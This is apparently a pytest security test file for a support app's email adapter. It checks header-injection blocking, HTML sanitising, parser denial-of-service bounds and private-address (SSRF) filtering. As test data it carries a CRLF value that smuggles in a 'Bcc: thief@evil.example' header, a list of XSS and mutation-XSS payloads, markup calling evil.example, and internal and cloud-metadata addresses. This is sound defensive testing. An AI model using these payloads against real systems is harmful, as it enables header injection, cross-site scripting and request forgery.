"""Mail written to do harm: to the sender's name in our headers, to the pages, to the worker's time."""

from __future__ import annotations

import sys
import time
from collections.abc import Callable
from email import message_from_bytes, policy

import pytest

from channels_app.adapters.email import report_words
from channels_app.adapters.email.compose import compose, mailbox
from channels_app.adapters.email.read import read
from channels_app.contract import OutboundFile
from channels_app.outgoing import _is_public
from tests.channels_app.test_contract import reply
from tickets.text import clean_html, html_to_text, is_heavy

BAD = "x\r\nBcc: thief@evil.example\r\n\r\nbody\x00\x0b"


def received(page: str) -> str:
    head = b"From: mia@mail.example\r\nSubject: Hi\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    (message,) = read(head + page.encode(), address="support@bank.example").messages
    return message.html


def test_nothing_that_we_send_lets_a_second_header_in() -> None:
    file = OutboundFile(BAD, f"image/{BAD}", b"1", content_id=BAD, is_inline=True)
    message = reply(
        subject=BAD, to_name=BAD, cc=((BAD, "cc@mail.example"),), references=(BAD, f"<{BAD}@a>"),
        in_reply_to=BAD, language=BAD, signature=BAD, files=(file,), html='<p><img src="/attachments/0/">',
    )  # fmt: skip

    raw = compose(
        message, sender=mailbox(BAD, "support@bank.example"), reply_to="", message_id="a@b"
    ).as_bytes()

    read_back = message_from_bytes(raw, policy=policy.default)
    for part in read_back.walk():
        assert "bcc" not in {name.lower() for name in part}
    assert read_back["From"].addresses[0].addr_spec == "support@bank.example"


@pytest.mark.parametrize(
    "page",
    [
        '<img src="/settings/agents/1/remove/">',
        '<img src="//evil.example/pixel.gif">',
        '<img src="attachments/7/">',
        '<a href="/accounts/logout/">Your invoice</a>',
        '<a href="javascript:alert(1)">x</a>',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=alert(1)&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        '<p style="background:url(https://evil.example/p)">x</p>',
        '<table background="https://evil.example/p"><tr><td>x</table>',
        '<link rel=stylesheet href="https://evil.example/s.css"><base href="https://evil.example/">',
        '<meta http-equiv=refresh content="0;url=https://evil.example">',
        '<form action="https://evil.example"><input name=password></form>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "<x onclick=alert(1)>x</x>",
        '<video poster="https://evil.example/p"></video>',
        '<img srcset="https://evil.example/p 2x">',
    ],
)
def test_no_markup_acts_or_calls_out(page: str) -> None:
    html = received(f"<p>Hello</p>{page}")

    assert "Hello" in html
    for bad in ("onerror=alert(1)>", "javascript:", "<script", "<style", "<svg", "evil.example", "<form",
                "srcdoc=", 'src="/', 'href="/', 'src="a', "onclick", "<base", "<meta", "data:"):  # fmt: skip
        assert bad not in html, html


def test_pictures_and_links_of_the_mail_itself_stay() -> None:
    html = received(
        '<p><img src="cid:a@b"><a href="https://bank.example/x">x</a> <img src="https://a.example/b.png">'
    )

    assert 'src="cid:a@b"' in html
    assert 'href="https://bank.example/x"' in html
    assert 'src="https://a.example/b.png"' in html
    assert clean_html('<img src="/attachments/3/">') == '<img src="/attachments/3/">', (
        "our own may name our own"
    )


BOMBS = ["<div>", "<ul><li>", "<b></p>", "<a href=x><b>", "<blockquote>", "<p><b>", "<table>x", "\xa0",
         "&amp;", "<", "&", "< &", "<table><b>", "<!--<div>", "<font a=1><font a=2>"]  # fmt: skip


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_megabyte_of_markup_takes_no_time_and_keeps_its_words(bomb: str) -> None:
    page = "<p>My card is lost</p>" + bomb * (1_000_000 // len(bomb))
    began = time.monotonic()

    (message,) = read(
        b"From: mia@mail.example\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + page.encode(),
        address="",
    ).messages
    clean_html(page)
    html_to_text(page)

    assert time.monotonic() - began < 20
    assert "My card is lost" in message.text


@pytest.mark.parametrize("page", ["<div>" * 300 + "deep" + "</div>" * 300, "<p>&nbsp;word</p>" * 30_000])
def test_real_mail_is_no_bomb(page: str) -> None:
    assert not is_heavy(page)
    assert clean_html(page)


@pytest.mark.parametrize(
    "address",
    ["127.0.0.1", "10.0.0.1", "169.254.169.254", "::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "::7f00:1",
     "2002:7f00:1::", "fe80::1%eth0", "fd00::1", "0.0.0.0", "224.0.0.1", "100.64.0.1"],
)  # fmt: skip
def test_no_form_of_a_private_address_is_called(address: str) -> None:
    assert not _is_public(address)


def test_public_addresses_are_called() -> None:
    assert _is_public("1.1.1.1")
    assert _is_public("2606:4700::1111")
    assert _is_public("64:ff9b::101:101")


def report(filler: bytes, size: int, kind: str = "message/delivery-status") -> bytes:
    head = b"From: MAILER-DAEMON@x.example\r\nContent-Type: multipart/report; boundary=ZZ\r\n\r\n"
    part = f"--ZZ\r\nContent-Type: {kind}\r\n\r\n".encode() + filler * (size // len(filler))
    return head + part + b"\r\n--ZZ--\r\n"


def work(do: Callable[[], object]) -> int:
    """How many functions were called: the same on every machine, however busy."""
    calls = 0

    def count(_frame: object, event: str, _argument: object) -> None:
        nonlocal calls
        calls += event in ("call", "c_call")

    before = sys.getprofile()
    sys.setprofile(count)
    try:
        do()
    finally:
        sys.setprofile(before)
    return calls


@pytest.mark.parametrize("bomb", [b"\n", b"\r\n", b"a: b\n\n", b"-- \n", b"> "])
def test_a_megabyte_in_a_delivery_report_takes_no_time(bomb: bytes) -> None:
    began = time.monotonic()

    read(report(bomb, 1_000_000), address="")

    assert time.monotonic() - began < 8


@pytest.mark.parametrize("kind", ["message/delivery-status", "text/plain"])
@pytest.mark.parametrize("bomb", [b"-- \n", b"- \n", b"a@b.c\n"])
def test_the_lines_of_a_delivery_report_are_bounded(bomb: bytes, kind: str) -> None:
    read(report(bomb, 1_000, kind), address="")  # what is loaded once is no work

    some, ten_times = (
        work(lambda n=n: read(report(bomb, n, kind), address="")) for n in (100_000, 1_000_000)
    )

    assert ten_times < 2 * some
    assert ten_times < 1_500_000


def test_looking_for_the_reason_is_linear_in_the_lines_of_a_report() -> None:
    line = "550 5.1.1 a@b.example: no such user\n"

    some, twice = (work(lambda n=n: report_words.diagnostics(line * n, ["a@b.example"])) for n in (200, 400))

    assert twice < 2.5 * some


def test_the_reason_is_the_nearest_to_who_is_named() -> None:
    lines = ["550 for somebody", "", "", "<lan@x.example>:", "", "552 full", "", "<mai@x.example>:", "553 no"]

    found = report_words.diagnostics(
        "\n".join(lines), ["lan@x.example", "mai@x.example", "", "who@x.example"]
    )

    assert [each.split()[0] for each in found] == ["552", "553", "550", "550"]
